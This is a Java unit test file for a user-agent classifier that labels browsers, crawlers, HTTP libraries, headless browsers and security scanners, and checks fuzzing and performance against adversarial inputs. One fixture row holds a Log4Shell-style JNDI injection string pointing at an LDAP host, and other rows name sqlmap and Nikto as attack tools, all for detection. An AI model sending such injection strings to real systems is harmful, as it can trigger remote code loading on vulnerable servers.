package dev.spoor.scoring.agents;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.lessThan;

import dev.spoor.fixtures.oracle.UserAgentClasses;
import dev.spoor.model.UserAgentClass;
import dev.spoor.model.UserAgentInfo;
import java.util.Random;
import org.junit.Test;

public class UserAgentsTest {
  private static final int BROWSER = UserAgentClass.BROWSER;
  private static final int LIBRARY = UserAgentClass.LIBRARY;
  private static final int BOT = UserAgentClass.BOT;
  private static final int HEADLESS = UserAgentClass.HEADLESS;
  private static final int SCANNER = UserAgentClass.SCANNER;
  private static final int OTHER = UserAgentClass.OTHER;

  private static final String CHROME =
      "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/126.0.0.0 Safari/537.36";
  private static final String PHONE =
      "Mozilla/5.0 (Linux; Android 14; Phone One) AppleWebKit/537.36 (KHTML, like Gecko)"
          + " Chrome/126.0.0.0 Mobile Safari/537.36";

  @Test
  public void agentsSayWhatTheyAre() {
    Object[][] table = {
      // Agent, class, tool, version, system, category.
      {CHROME, BROWSER, "Chrome", "126.0.0.0", "Windows", null},
      {CHROME + " Edg/126.0.1.2", BROWSER, "Edge", "126.0.1.2", "Windows", null},
      {PHONE, BROWSER, "Chrome", "126.0.0.0", "Android", null},
      {
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
            + " Version/17.4 Safari/605.1.15",
        BROWSER,
        "Safari",
        "17.4",
        "macOS",
        null
      },
      {
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15"
            + " (KHTML, like Gecko) FxiOS/126.0 Mobile/15E148 Safari/605.1.15",
        BROWSER,
        "Firefox",
        "126.0",
        "iOS",
        null
      },
      {
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)",
        BROWSER,
        "Internet Explorer",
        "8.0",
        "Windows",
        null
      },
      {"Dalvik/2.1.0 (Linux; U; Android 9; X)", BROWSER, "Dalvik", "2.1.0", "Android", null},
      {"ShopApp/3 CFNetwork/1410 Darwin/22.6.0", BROWSER, "ShopApp", "3", "Darwin", null},
      {"sqlmap/1.5.2#stable (https://sqlmap.org)", SCANNER, "sqlmap", "1.5.2", null, "attack_tool"},
      {"Mozilla/5.00 (Nikto/2.1.6)", SCANNER, "Nikto", "2.1.6", null, "attack_tool"},
      {"${jndi:ldap://192.0.2.1/a}", SCANNER, "Injected expression", null, null, "attack_tool"},
      {
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        SCANNER,
        "Censys",
        "1.1",
        null,
        "security_scanner"
      },
      {
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        BOT,
        "Googlebot",
        "2.1",
        null,
        "search_engine"
      },
      {"GPTBot/1.2", BOT, "GPTBot", "1.2", null, "ai_crawler"},
      {CHROME + "; ChatGPT-User/1.0", BOT, "ChatGPT-User", "1.0", "Windows", "ai_assistant"},
      {
        CHROME.replace("Chrome", "HeadlessChrome"),
        HEADLESS,
        "HeadlessChrome",
        "126.0.0.0",
        "Windows",
        "browser_automation"
      },
      {"curl/8.5.0", LIBRARY, "curl", "8.5.0", null, "http_library"},
      {"python-requests/2.32.3", LIBRARY, "python-requests", "2.32.3", null, "http_library"},
      {"okhttp/4.9.0 (Android 9)", LIBRARY, "OkHttp", "4.9.0", "Android", "http_library"},
      // Names that no row has: by general words, by an address, by the shape.
      {"ExampleBot/0.3", BOT, "ExampleBot", "0.3", null, null},
      {"Mozilla/5.0 (compatible; Exampler/2.0)", BOT, "Exampler", "2.0", null, null},
      {"Exampler 1.1 (+https://example.com/about)", BOT, "Exampler", "1.1", null, null},
      {"exampler (me@example.com)", BOT, "exampler", null, null, null},
      {"Exampler/1.1", OTHER, "Exampler", "1.1", null, null},
      {CHROME + " (compatible; Exampler/1)", BOT, null, null, "Windows", null},
      {CHROME.replace("Gecko)", "Gecko; Exampler/1)"), BOT, null, null, "Windows", null},
      {CHROME + "; Exampler", BOT, null, null, "Windows", null},
      {CHROME + " example.com", BOT, null, null, "Windows", null},
      {"Mozilla/5.0", OTHER, null, null, null, null},
      {"something", OTHER, "something", null, null, null},
      // Words that only look so.
      {PHONE.replace("Phone One", "CUBOT X9"), BROWSER, "Chrome", "126.0.0.0", "Android", null},
      {PHONE + " CamScanner/4.5", BROWSER, "Chrome", "126.0.0.0", "Android", null},
      {PHONE + " com.example.app/3", BROWSER, "Chrome", "126.0.0.0", "Android", null},
      {PHONE + " NetType/WIFI", BROWSER, "Chrome", "126.0.0.0", "Android", null},
    };
    for (Object[] row : table) {
      int bits = (Integer) row[1];
      UserAgentInfo expected =
          new UserAgentInfo(
              bits,
              bits != BROWSER,
              (String) row[2],
              (String) row[3],
              (String) row[4],
              (String) row[5]);
      String agent = (String) row[0];
      assertThat(agent, UserAgents.describe(agent), is(expected));
      assertThat(agent, UserAgents.bits(agent.getBytes(UTF_8)), is(bits));
    }
  }

  @Test
  public void noAgentIsNoBot() {
    UserAgentInfo none = new UserAgentInfo(UserAgentClass.EMPTY, false, null, null, null, null);
    assertThat(UserAgents.describe(""), is(none));
    assertThat(UserAgents.describe("-"), is(none));
  }

  @Test
  public void anAgentMayBelongToSeveralClasses() {
    assertThat(
        UserAgents.bits("HeadlessChrome/120 Googlebot sqlmap curl/8".getBytes(UTF_8)),
        is(HEADLESS | BOT | SCANNER | LIBRARY));
  }

  @Test
  public void namesAndVersionsAreShortAndPlain() {
    UserAgentInfo info = UserAgents.describe("x".repeat(50_000) + "bot/" + "1".repeat(50_000));
    assertThat(info.bits(), is(BOT));
    assertThat(info.toolName(), is("x".repeat(64)));
    assertThat(UserAgents.describe("Bot\u001b[31m/1").toolName(), is("Bot"));
  }

  @Test
  public void theOracleAgreesOnWhateverIsMadeOfAgents() {
    UserAgentClasses oracle = UserAgentClasses.shipped();
    String[] pieces = {
      "Mozilla/5.0 ",
      "Opera/9 ",
      "(compatible; ",
      "compatible;",
      "(",
      ")",
      "[",
      "]",
      ";",
      "; ",
      ",",
      " ",
      "/",
      ".",
      "-",
      "@",
      "X11",
      "Windows NT 10.0",
      "Android 9",
      "iPhone",
      "MSIE 8.0",
      "(KHTML, like Gecko",
      "like Gecko",
      " Safari/1",
      "Chrome/120",
      "http://",
      "https:",
      "www.",
      "example",
      ".com",
      "com",
      "org",
      "12",
      "a",
      "bot",
      "Cubot",
      "crawl",
      "spider",
      "reader",
      "user-agent",
      "curl/8",
      "okhttp",
      "Googlebot",
      "sqlmap",
      "headless",
      "Java/",
      "rss",
      "u",
      "\u00e9",
      "\u0000",
      "python",
      "fetch",
      "preview",
    };
    Random random = new Random(7);
    for (int i = 0; i < 4_000; i++) {
      StringBuilder made = new StringBuilder();
      for (int n = random.nextInt(14); n >= 0; n--) {
        made.append(pieces[random.nextInt(pieces.length)]);
      }
      byte[] bytes = made.toString().getBytes(UTF_8);
      assertThat(
          made.toString(), UserAgents.bits(bytes), is(oracle.bits(new String(bytes, ISO_8859_1))));
    }
  }

  @Test
  public void hostileAgentsTakeLinearTime() {
    for (String piece :
        new String[] {
          "@",
          "@a.",
          ".",
          "a.",
          "(",
          "compatible;",
          "like gecko",
          "http:",
          "w",
          "bot",
          "-",
          "cubot",
          "a",
          "${",
          "ww.",
          "(compatible;"
        }) {
      byte[] agent = piece.repeat(64 * 1024 / piece.length()).getBytes(UTF_8);
      UserAgents.bits(agent);
      long start = System.nanoTime();
      for (int i = 0; i < 10; i++) {
        UserAgents.describe(agent);
      }
      long micros = (System.nanoTime() - start) / 10_000;
      assertThat(piece + " took " + micros + " us", micros, lessThan(50_000L));
    }
  }
}
